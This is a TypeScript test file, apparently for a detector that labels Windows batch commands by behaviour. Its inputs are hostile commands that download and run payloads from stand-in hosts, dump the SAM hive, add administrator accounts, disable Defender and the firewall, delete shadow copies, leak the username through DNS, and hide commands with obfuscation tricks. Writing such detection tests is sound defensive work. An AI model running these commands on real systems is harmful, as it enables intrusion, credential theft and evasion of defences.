import { describe } from 'node:test';
import { check } from './expect.ts';

const encoded = Buffer.from('Get-ComputerInfo', 'utf16le').toString('base64');

describe('cmd.exe', () => {
  check(
    'batch',
    'certutil.exe -urlcache -split -f http://192.0.2.1/s C:\\Users\\Public\\r.bat && C:\\Users\\Public\\r.bat',
    {
      features: 'download download-execute living-off-the-land',
    },
  );
  check('batch', 'bitsadmin /transfer j http://a.invalid/a.exe %TEMP%\\a.exe & start "" %TEMP%\\a.exe', {
    features: 'download download-execute living-off-the-land',
  });
  check('batch', 'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v X /d a.exe', {
    features: 'persistence',
  });
  check('batch', 'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', { features: '' });
  check('batch', 'reg save HKLM\\SAM %TEMP%\\s', { features: 'credential-access' });
  check('batch', 'schtasks /create /tn X /tr "a.exe" /sc onlogon', { features: 'persistence' });
  check('batch', 'schtasks /query', { features: '' });
  check('batch', 'copy a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"', {
    features: 'persistence',
  });
  check('batch', 'net user x y /add & net localgroup administrators x /add', { features: 'account-change' });
  check('batch', 'net stop WinDefend & sc config WinDefend start= disabled', { features: 'defender-tamper' });
  check('batch', 'netsh advfirewall set allprofiles state off', { features: 'firewall-tamper' });
  check('batch', 'netsh wlan show profile name="x" key=clear', { features: 'credential-access' });
  check('batch', 'vssadmin delete shadows /all /quiet', { features: 'file-delete living-off-the-land' });
  check('batch', 'del "%~f0"', { features: 'file-delete self-delete' });
  check('batch', 'mshta http://a.invalid/a.hta', {
    features: 'download download-execute living-off-the-land',
  });
  check('batch', 'regsvr32 /s /n /u /i:http://a.invalid/a.sct scrobj.dll', {
    features: 'download download-execute living-off-the-land',
  });
  check('batch', 'rundll32 user32.dll,LockWorkStation', { features: '' });
  check('batch', 'ping %USERNAME%.x.invalid', { features: 'host-identity send-data' });
  check('batch', 'start /min a.exe', { features: 'hidden-window' });
  check('batch', '@echo off\r\nrem curl http://a.invalid\r\n:: wget http://a.invalid\r\necho whoami', {
    features: '',
    programs: 'echo',
  });
});

describe('interpreters', () => {
  check('batch', `powershell -w hidden -ep bypass -enc ${encoded}`, {
    features: 'encoded-command hidden-window host-identity policy-bypass',
    inner: [['powershell < powershell -EncodedCommand < base64 < utf-16le', 'Get-ComputerInfo']],
  });
  check('batch', 'cmd /c "whoami & hostname"', {
    features: 'host-identity',
    programs: 'cmd whoami hostname',
    inner: [['batch < cmd /c', 'whoami & hostname']],
  });
  check('batch', 'echo WScript.Echo 1 > a.vbs\necho WScript.Quit >> a.vbs\ncscript a.vbs', {
    features: 'living-off-the-land',
    inner: [['vbscript < written file', 'WScript.Echo 1\nWScript.Quit']],
  });
});

describe('tricks', () => {
  check('batch', 'set x=pow\nset y=ershell\n%x%%y% -w hidden', {
    features: 'hidden-window',
    programs: 'set powershell',
  });
  check('batch', 'set a=xwhoamix\n%a:~1,6%', { features: 'host-identity', programs: 'set whoami' });
  check('batch', '"w"ho"ami" & s"ys"tem"i"nfo & ho"s"tn"am"e', { features: 'host-identity obfuscated' });
  check('batch', 'wh^oa^mi & s^ys^teminfo & ho^st^name', { features: 'host-identity obfuscated' });
  check('batch', 'if exist a.txt (whoami) else hostname', {
    features: 'host-identity',
    programs: 'whoami hostname',
  });
  check('batch', 'for /f "tokens=*" %%i in (\'hostname\') do ping %%i.x.invalid', {
    features: 'host-identity',
    programs: 'hostname ping',
  });
});
